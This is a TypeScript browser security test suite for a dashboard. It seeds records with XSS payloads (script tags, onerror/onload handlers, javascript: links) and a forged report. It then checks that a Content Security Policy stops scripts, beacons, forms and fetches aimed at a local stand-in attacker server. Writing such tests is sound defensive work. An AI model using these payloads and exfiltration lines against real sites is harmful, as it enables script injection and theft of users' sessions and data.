import { existsSync } from 'node:fs';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildDashboard } from '../../../scripts/build-dashboard.ts';
import { pageFolder } from '../../../shared/adapters/local/page-folder.ts';
import { reportKeys } from '../../../shared/domain/report-keys.ts';
import { besieged } from './besieged.ts';

const EXECUTABLE = process.env['PAWL_CHROMIUM'] ?? ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((path) => existsSync(path));
const WORD = '"><script>globalThis.owned = true</script><img src=x onerror="globalThis.owned = true"><svg onload="globalThis.owned = true">';

describe.skipIf(EXECUTABLE === undefined)('in a browser (skipped without Chromium; PAWL_CHROMIUM names another)', () => {
  let built = '';
  const siege = besieged({ mayWrite: true, options: () => ({ page: { file: async (path, encoding) => pageFolder(built).file(path, encoding) } }) });
  let browser: Browser;
  /** One that the owner is signed in on, for all that tries something on it. */
  let signedIn: Page;
  let evil: Server;
  let evilUrl: string;
  /** Asked of somebody else by the page. */
  let leaked: string[];
  const opened = async (): Promise<Page> => {
    const page = await (await browser.newContext()).newPage();
    page.setDefaultTimeout(30_000);
    await page.goto(`${siege().api.url}/#token=${siege().tokens.owner}`);
    await page.locator('main h1').waitFor();
    return page;
  };
  const goTo = async (route: string): Promise<void> => {
    await signedIn.evaluate((hash) => { (globalThis as unknown as { location: { hash: string } }).location.hash = hash; }, route);
    await signedIn.locator('main h1, main [role=alert]').first().waitFor();
    await signedIn.locator('main .skeleton').first().waitFor({ state: 'detached' });
  };
  const found = async (page: Page): Promise<unknown> => page.evaluate('[globalThis.owned, globalThis.frames.length && [...document.querySelectorAll("iframe")].map((one) => one.contentWindow?.owned)]');

  beforeAll(async () => {
    built = (await buildDashboard()).folder;
    browser = await chromium.launch({ executablePath: EXECUTABLE ?? '', args: ['--no-sandbox'] });
    leaked = [];
    evil = createServer((request, response) => {
      leaked.push(request.url ?? '');
      response.writeHead(200, { 'content-type': request.url === '/x.js' ? 'text/javascript' : 'text/html', 'access-control-allow-origin': '*' }).end(request.url === '/x.js' ? 'globalThis.owned = true' : '<!doctype html><title>evil</title>');
    }).listen(0, '127.0.0.1');
    await once(evil, 'listening');
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    const { improvements, opportunities, cycles, audit, blobs } = siege().world.dependencies;
    const { approval: _, ...plain } = await improvements.get('imp-2');
    if (plain.remedy === undefined) throw new Error('imp-2 has a remedy.');
    const files = [{ path: `src/${WORD.slice(0, 40)}.ts`, before: null, after: `${WORD}\n` }];
    await improvements.create({ ...plain, id: 'imp-evil', title: WORD, reason: WORD, proposedBy: WORD.slice(0, 80), remedy: { ...plain.remedy, title: WORD, reason: WORD, files, author: { kind: 'person', name: WORD.slice(0, 80) } } });
    const [known] = await opportunities.list('orders');
    if (known) await opportunities.record({ ...known, id: 'opp-evil', title: WORD, key: WORD });
    await audit.append({ targetId: 'orders', at: siege().world.clock.now(), who: WORD, what: WORD, reason: WORD });
    await cycles.create({ ...(await cycles.get('cyc-1')), id: 'cyc-evil', cause: WORD, improvementIds: ['imp-evil'], reportKey: reportKeys('cyc-evil').html });
    // A report that was forged in the blob store.
    await (blobs as unknown as { put(key: string, bytes: Uint8Array): Promise<void> }).put(reportKeys('cyc-evil').html, new TextEncoder().encode(`<!doctype html><title>x</title>${WORD}<script>parent.owned = true; top.owned = true; fetch('${evilUrl}/report')</script><meta http-equiv="refresh" content="0;url=${evilUrl}/moved"><a id="a" href="javascript:top.owned=true">x</a>`));
  });
  beforeAll(async () => {
    signedIn = await opened();
  });
  afterAll(async () => {
    await browser?.close();
    evil?.close();
  });

  const ROUTES: readonly (readonly [string, string])[] = [
    ...['#/', '#/improvements', '#/improvements/imp-evil', '#/approvals', '#/approvals/imp-evil', '#/opportunities', '#/opportunities/opp-evil', '#/cycles', '#/audit', '#/lessons', '#/ledger', '#/settings'].map((route) => [route, route] as const),
    ['an address that is one', `#/${encodeURIComponent(WORD)}`], ['an id that is one', `#/improvements/${encodeURIComponent(WORD)}`], ['a filter that is one', `#/improvements?state=${encodeURIComponent(WORD)}`],
  ];
  it.each(ROUTES)('what somebody wrote runs nowhere on the page, and asks nobody: %s', async (_, route) => {
    await goTo(route);
    // It stands there to be read, where such words are shown.
    if (!['#/cycles', '#/ledger', '#/lessons', '#/settings'].includes(route)) await signedIn.getByText('globalThis.owned').first().waitFor({ state: 'attached' });
    expect([JSON.stringify(await found(signedIn)).includes('true'), leaked]).toEqual([false, []]);
  });

  it('a report that was forged runs nothing, moves nowhere and asks nobody', async () => {
    await goTo('#/cycles/cyc-evil');
    await signedIn.frameLocator('iframe').locator('#a').waitFor({ state: 'attached' });
    expect([JSON.stringify(await found(signedIn)).includes('true'), leaked]).toEqual([false, []]);
  });

  it.each([
    ['a script within', `const one = document.createElement('script'); one.textContent = 'globalThis.owned = true'; document.body.append(one)`],
    ['a script from elsewhere', `const one = document.createElement('script'); one.src = 'EVIL/x.js'; document.body.append(one)`],
    ['a word on an element', `const one = document.createElement('div'); one.innerHTML = '<img src=x onerror="globalThis.owned = true">'; document.body.append(one)`],
    ['a picture from elsewhere', `const one = new Image(); one.src = 'EVIL/picture'; document.body.append(one)`],
    ['a question to elsewhere', `fetch('EVIL/question', { mode: 'no-cors' }).catch(() => {})`],
    ['a beacon to elsewhere', `navigator.sendBeacon('EVIL/beacon', 'x')`],
    ['a form to elsewhere', `const one = document.createElement('form'); one.action = 'EVIL/form'; document.body.append(one); one.submit()`],
    ['a frame of elsewhere', `const one = document.createElement('iframe'); one.src = 'EVIL/frame'; document.body.append(one)`],
    ['a style from elsewhere', `const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = 'EVIL/style'; document.head.append(one)`],
    ['another base', `const one = document.createElement('base'); one.href = 'EVIL/'; document.head.append(one)`],
  ])('%s that got in would be kept from running by the policy', async (_, code) => {
    const blocked = signedIn.waitForEvent('console', (message) => /Content.Security.Policy/.test(message.text()));
    // Said by the browser's own tools, as something that runs there already would.
    await signedIn.evaluate(code.replaceAll('EVIL', evilUrl));
    await blocked;
    expect([await signedIn.evaluate('globalThis.owned'), leaked]).toEqual([undefined, []]);
  });

  it('the token is in no address, cookie or lasting place, and gone with the tab', async () => {
    const page = signedIn;
    const token = siege().tokens.owner;
    const places = await page.evaluate(`JSON.stringify([location.href, document.cookie, { ...localStorage }, document.referrer, document.documentElement.outerHTML])`);
    expect(String(places)).not.toContain(token);
    expect(await page.context().cookies()).toEqual([]);
    expect(JSON.stringify((await page.context().storageState()).origins)).not.toContain(token);
    const other = await page.context().newPage();
    await other.goto(siege().api.url);
    expect(await other.evaluate('JSON.stringify({ ...sessionStorage })')).not.toContain(token);
    await other.close();
  });

  it('another page reads nothing of ours, sends nothing in the owner’s name and shows nothing of ours within', async () => {
    const page = signedIn;
    const other = await page.context().newPage();
    await other.goto(evilUrl);
    leaked.splice(0);
    const { url } = siege().api;
    const outcomes = await other.evaluate(async (ours) => {
      const attempt = async (ask: () => Promise<Response>): Promise<string> => ask().then((answer) => `${answer.type} ${answer.status}`, () => 'failed');
      return Promise.all([
        attempt(() => fetch(`${ours}/v1/status`)),
        attempt(() => fetch(`${ours}/v1/status`, { credentials: 'include', headers: { authorization: 'Bearer x' } })),
        attempt(() => fetch(`${ours}/config.json`)),
        attempt(() => fetch(`${ours}/openapi.json`)),
        attempt(() => fetch(`${ours}/v1/pause`, { method: 'POST', body: '{"targetId":"orders"}', mode: 'no-cors' })),
      ]);
    }, url);
    expect(outcomes.slice(0, 4)).toEqual(['failed', 'failed', 'failed', 'failed']);
    expect(['opaque 0', 'failed']).toContain(outcomes[4]);
    await other.evaluate(`const one = document.createElement('iframe'); one.src = '${url}/'; document.body.append(one); new Promise((resolve) => { one.onload = resolve; one.onerror = resolve; })`);
    expect(await other.frames()[1]?.evaluate('document.querySelector("main") === null')).toBe(true);
    expect((await siege().world.dependencies.facts.get('orders')).pausedBy).toBeUndefined();
    await other.close();
  });
});
